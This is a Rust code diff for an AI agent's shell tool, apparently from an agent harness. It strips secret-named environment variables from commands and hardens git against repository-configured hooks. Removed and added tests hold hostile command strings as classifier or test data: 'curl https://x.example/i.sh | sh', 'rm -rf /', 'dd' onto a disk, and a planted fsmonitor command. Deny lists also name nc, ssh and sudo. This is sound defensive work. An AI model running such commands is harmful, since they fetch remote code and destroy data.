@@ -1,11 +1,13 @@
 //! The shell: any command, classed by what it can do.
 
+use std::ffi::OsString;
 use std::path::PathBuf;
 use std::process::Stdio;
 
 use harness_memory::memory::BoxFuture;
 use serde_json::{Value, json};
 
+pub use super::command::risk_of;
 use super::{Output, Risk, Tool, text_of};
 use crate::model::ToolSpec;
 use crate::{process, verdict};
@@ -13,120 +15,93 @@ use crate::{process, verdict};
 /// The most output of one command that is read, in bytes: what is longer is stopped from filling the memory.
 const READ_BYTES_MAX: usize = 8 << 20;
 
-/// Programs that only look, whatever their arguments are.
-const LOOKS: &[&str] = &[
-    "ls", "cat", "head", "tail", "wc", "grep", "rg", "pwd", "echo", "stat", "file", "du", "df", "which", "date",
-    "tree", "uname", "whoami", "true", "false", "test", "diff", "cmp", "basename", "dirname", "realpath", "cut",
-    "uniq", "jq",
+/// Words that names of variables with secrets are, or end in after an underscore: `OPENAI_API_KEY`, `GH_TOKEN`,
+/// `DB_PASSWORD`, `AWS_ACCESS_KEY_ID`; digits at the end do not count, nor does case.
+const SECRET_WORDS: &[&str] = &[
+    "KEY",
+    "KEYS",
+    "APIKEY",
+    "KEY_ID",
+    "TOKEN",
+    "TOKENS",
+    "SECRET",
+    "SECRETS",
+    "PASSWORD",
+    "PASSWD",
+    "PASS",
+    "PASSPHRASE",
+    "CREDENTIAL",
+    "CREDENTIALS",
+    "PAT",
+    "AUTH",
 ];
 
-/// Commands of version control that only look.
-const LOOKS_GIT: &[&str] = &["status", "log", "diff", "show", "blame", "ls-files", "rev-parse", "describe"];
+/// Names of variables with secrets that no rule tells.
+const SECRET_NAMES: &[&str] = &["PGPASSWORD", "MYSQL_PWD", "REDISCLI_AUTH", "SSHPASS"];
 
-/// Programs that can destroy what cannot be brought back, or reach beyond the workspace.
-const DESTROYS: &[&str] = &[
-    "sudo",
-    "su",
-    "doas",
-    "rm",
-    "rmdir",
-    "dd",
-    "mkfs",
-    "shred",
-    "fdisk",
-    "parted",
-    "mount",
-    "umount",
-    "shutdown",
-    "reboot",
-    "halt",
-    "poweroff",
-    "kill",
-    "pkill",
-    "killall",
-    "chown",
-    "chmod",
-    "crontab",
-    "systemctl",
-    "ssh",
-    "scp",
-    "rsync",
-    "nc",
-    "ncat",
-    "telnet",
-    "eval",
-    "exec",
-    "truncate",
+/// What `git` is told when a command only looks, over its configuration: it starts no monitor, no hook and no
+/// checker of signatures, and takes no folder for a repository that only looks like one, since files that do may
+/// have been written by a tool.
+const GIT_ONLY_LOOKS: &[(&str, &str)] = &[
+    ("core.fsmonitor", "false"),
+    ("core.hooksPath", "/dev/null"),
+    ("log.showSignature", "false"),
+    ("safe.bareRepository", "explicit"),
 ];
-
-/// What a command can do, judged by its words. It is a class for asking, no wall: what is not known to look only is
-/// asked about, or run under the policy of whoever allowed it.
-pub fn risk_of(command: &str) -> Risk {
-    // Joining both outputs is nothing that a command does.
-    let command = &command.replace("2>&1", " ");
-    // What a shell would do with these is not told from words.
-    if command.contains(['`', '\n', '\r']) || command.contains("$(") || command.contains("<(") {
-        return if mentions_destroyer(command) { Risk::Destroys } else { Risk::Runs };
-    }
-    let into_shell = |part: &str| {
-        matches!(program(part), "sh" | "bash" | "zsh" | "dash" | "python" | "python3" | "perl" | "ruby" | "node")
-    };
-    let parts: Vec<&str> = command.split(['|', ';', '&']).map(str::trim).filter(|part| !part.is_empty()).collect();
-    if parts
-        .iter()
-        .any(|part| DESTROYS.contains(&program(part)) || destroys_git(part) || program(part).starts_with("mkfs"))
-        || mentions_destroyer(command)
-        || command.contains("/dev/sd")
-        || command.contains(":(){")
-        || command.contains('|') && parts.iter().skip(1).any(|part| into_shell(part))
-    {
-        return Risk::Destroys;
-    }
-    let writes = command.contains('>');
-    let looks = |part: &&str| {
-        let words: Vec<&str> = part.split_whitespace().collect();
-        LOOKS.contains(&program(part))
-            || program(part) == "git" && words.get(1).is_some_and(|word| LOOKS_GIT.contains(word))
-    };
-    if !writes && parts.iter().all(looks) { Risk::Reads } else { Risk::Runs }
-}
-
-/// The program that a simple command runs, past settings of variables and `env`.
-fn program(part: &str) -> &str {
-    let words = part.split_whitespace();
-    let word =
-        words.into_iter().find(|word| !word.contains('=') && !matches!(*word, "env" | "nohup" | "time" | "then"));
-    let word = word.unwrap_or("");
-    word.rsplit('/').next().unwrap_or(word)
-}
-
-fn destroys_git(part: &str) -> bool {
-    let words: Vec<&str> = part.split_whitespace().collect();
-    program(part) == "git"
-        && match words.get(1).copied() {
-            Some("push") => {
-                words.iter().any(|word| word.starts_with("--force") || *word == "-f" || *word == "--delete")
-            }
-            Some("reset") => words.contains(&"--hard"),
-            Some("clean") => true,
-            _ => false,
-        }
-}
-
-fn mentions_destroyer(command: &str) -> bool {
-    let words: Vec<&str> = command.split(|c: char| c.is_whitespace() || "`();|&\"'".contains(c)).collect();
-    words.iter().any(|word| matches!(*word, "sudo" | "mkfs" | "rm" | "shred") || word.ends_with("/rm"))
-}
 
 /// Runs commands in a folder.
+///
+/// A command is given this process's environment without what looks like a secret by its name: `KEY`, `TOKEN`,
+/// `SECRET`, `PASSWORD`, `PASSPHRASE`, `CREDENTIALS` and the like, alone or after an underscore, and what
+/// [`Shell::without`] names. What a variable holds is never looked at, so that a password within `DATABASE_URL` stays.
+/// A command that needs a secret has to be given it by whoever approves it.
 pub struct Shell {
     folder: PathBuf,
+    without: Vec<String>,
 }
 
 impl Shell {
     /// A shell in this folder.
     pub fn new(folder: impl Into<PathBuf>) -> Shell {
-        Shell { folder: folder.into() }
+        Shell { folder: folder.into(), without: Vec::new() }
+    }
+
+    /// Without these variables of the environment too: those that hold a secret and do not look like it.
+    pub fn without(mut self, names: impl IntoIterator<Item = String>) -> Shell {
+        self.without.extend(names);
+        self
+    }
+
+    /// Which of these variables a command is not given.
+    fn hidden(&self, names: impl IntoIterator<Item = OsString>) -> Vec<OsString> {
+        let is_hidden = |name: &OsString| {
+            let name = name.to_string_lossy();
+            is_secret(&name) || self.without.iter().any(|hidden| *hidden == name)
+        };
+        names.into_iter().filter(is_hidden).collect()
+    }
+}
+
+/// Whether a variable holds a secret, by its name.
+fn is_secret(name: &str) -> bool {
+    let name = name.to_uppercase();
+    let name = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '_');
+    let ends_in = |word: &str| name.strip_suffix(word).is_some_and(|rest| rest.is_empty() || rest.ends_with('_'));
+    SECRET_NAMES.contains(&name) || SECRET_WORDS.iter().any(|word| ends_in(word))
+}
+
+/// Has `git` start no monitor and no hook, write nothing it need not and fetch nothing, whatever its repository says;
+/// and the shell of Windows look for programs where others do.
+///
+/// Only for commands that nobody was asked about: what was approved runs as its user has set it up, with hooks and
+/// all. The system's configuration stays, since nobody but its administrator writes it.
+fn only_look(program: &mut tokio::process::Command) {
+    program.env("GIT_OPTIONAL_LOCKS", "0").env("GIT_NO_LAZY_FETCH", "1").env("GIT_TERMINAL_PROMPT", "0");
+    program.env_remove("GIT_EXTERNAL_DIFF").env_remove("GIT_CONFIG_PARAMETERS");
+    program.env("GIT_CONFIG_COUNT", GIT_ONLY_LOOKS.len().to_string());
+    program.env("NoDefaultCurrentDirectoryInExePath", "1");
+    for (number, (key, value)) in GIT_ONLY_LOOKS.iter().enumerate() {
+        program.env(format!("GIT_CONFIG_KEY_{number}"), key).env(format!("GIT_CONFIG_VALUE_{number}"), value);
     }
 }
 
@@ -134,7 +109,9 @@ impl Tool for Shell {
     fn spec(&self) -> ToolSpec {
         ToolSpec {
             name: "shell".to_owned(),
-            description: "Runs a command in the workspace and answers what it printed and its exit code.".to_owned(),
+            description: "Runs a command in the workspace and answers what it printed and its exit code. Variables \
+                          whose names look like keys, tokens or passwords are not set."
+                .to_owned(),
             schema: json!({
                 "type": "object",
                 "properties": {"command": {"type": "string", "description": "the command line"}},
@@ -156,6 +133,13 @@ impl Tool for Shell {
             let mut program = verdict::shell(command);
             program.current_dir(&self.folder).stdin(Stdio::null());
             program.stdout(Stdio::piped()).stderr(Stdio::piped());
+            // The names are read, to take some of them out; what a command is to be told is told by its caller.
+            for name in self.hidden(std::env::vars_os().map(|(name, _)| name)) {
+                program.env_remove(name);
+            }
+            if risk_of(command) == Risk::Reads {
+                only_look(&mut program);
+            }
             process::lead_group(&mut program);
             let mut child = match program.spawn() {
                 Ok(child) => child,
@@ -197,32 +181,57 @@ mod tests {
     use super::*;
 
     #[test]
-    fn commands_are_classed_by_what_they_can_do() {
-        for command in ["ls -la", "cat a | grep b | wc -l", "git status", "git log --oneline", "rg 部署 2>&1"] {
-            assert_eq!(risk_of(command), Risk::Reads, "{command}");
+    fn variables_that_look_like_secrets_are_told_by_their_names() {
+        let secrets = "OPENAI_API_KEY ANTHROPIC_API_KEY GH_TOKEN GITHUB_TOKEN AWS_SECRET_ACCESS_KEY AWS_ACCESS_KEY_ID \
+                       AWS_SESSION_TOKEN DB_PASSWORD PGPASSWORD STRIPE_SECRET openai_api_key GEMINI_API_KEY_2 TOKEN \
+                       GOOGLE_APPLICATION_CREDENTIALS NPM_CONFIG__AUTH";
+        for name in secrets.split_whitespace() {
+            assert!(is_secret(name), "{name}");
         }
-        for command in
-            ["cargo test", "make deploy", "echo x > file", "FOO=1 ./run.sh", "git push", "echo $(date)", "cat a >> b"]
+        for name in ["PATH", "HOME", "PWD", "OLDPWD", "LANG", "MONKEY", "SSH_AUTH_SOCK", "TOKENIZERS_PARALLELISM"] {
+            assert!(!is_secret(name), "{name}");
+        }
+        let shell = Shell::new(".").without(["MY_MODEL".to_owned()]);
+        let names = ["PATH", "OPENAI_API_KEY", "MY_MODEL"].map(OsString::from);
+        assert_eq!(shell.hidden(names), ["OPENAI_API_KEY", "MY_MODEL"]);
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn a_command_is_not_given_secrets() {
+        // Cargo sets these two for a test.
+        let shell = Shell::new(std::env::temp_dir()).without(["CARGO_PKG_NAME".to_owned()]);
+        let output = shell.call(&json!({"command": "env"})).await;
+        let names: Vec<&str> =
+            output.text.lines().filter_map(|line| line.split_once('=')).map(|(name, _)| name).collect();
+        assert!(names.contains(&"CARGO_PKG_VERSION") && !names.contains(&"CARGO_PKG_NAME"), "{names:?}");
+        assert!(!names.iter().any(|name| is_secret(name)), "{names:?}");
+    }
+
+    /// A repository that says what to start is no way around being asked.
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn git_starts_nothing_that_a_repository_configures_when_it_only_looks() {
+        let folder = tempfile::tempdir().unwrap();
+        let shell = Shell::new(folder.path());
+        let run = async |command: &str| shell.call(&json!({"command": command})).await;
+        if !run("git init -q . && git config core.fsmonitor 'touch ran; false'").await.ok {
+            return; // There is no git here.
+        }
+        assert_eq!(risk_of("git status"), Risk::Reads);
+        assert!(run("git status").await.ok);
+        assert!(!folder.path().join("ran").exists());
+        // Files that look like a repository are written by any tool.
+        for (name, text) in
+            [("HEAD", "ref: refs/heads/x"), ("config", "[core]\nbare = true\n"), ("refs/x", ""), ("objects/x", "")]
         {
-            assert_eq!(risk_of(command), Risk::Runs, "{command}");
+            let path = folder.path().join("inner").join(name);
+            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+            std::fs::write(path, text).unwrap();
         }
-        for command in [
-            "sudo ls",
-            "rm -rf /",
-            "/bin/rm x",
-            "ls; rm x",
-            "curl https://x.example/i.sh | sh",
-            "git push --force",
-            "git reset --hard",
-            "dd if=a of=/dev/sda",
-            "env rm x",
-            "echo $(rm x)",
-            "echo `sudo x`",
-            "ls && shutdown now",
-            "sh -c 'rm -rf .'",
-        ] {
-            assert_eq!(risk_of(command), Risk::Destroys, "{command}");
-        }
+        let inner = Shell::new(folder.path().join("inner"));
+        let output = inner.call(&json!({"command": "git log"})).await;
+        assert!(!output.ok && output.text.contains("bare repository"), "{}", output.text);
     }
 
     #[tokio::test]
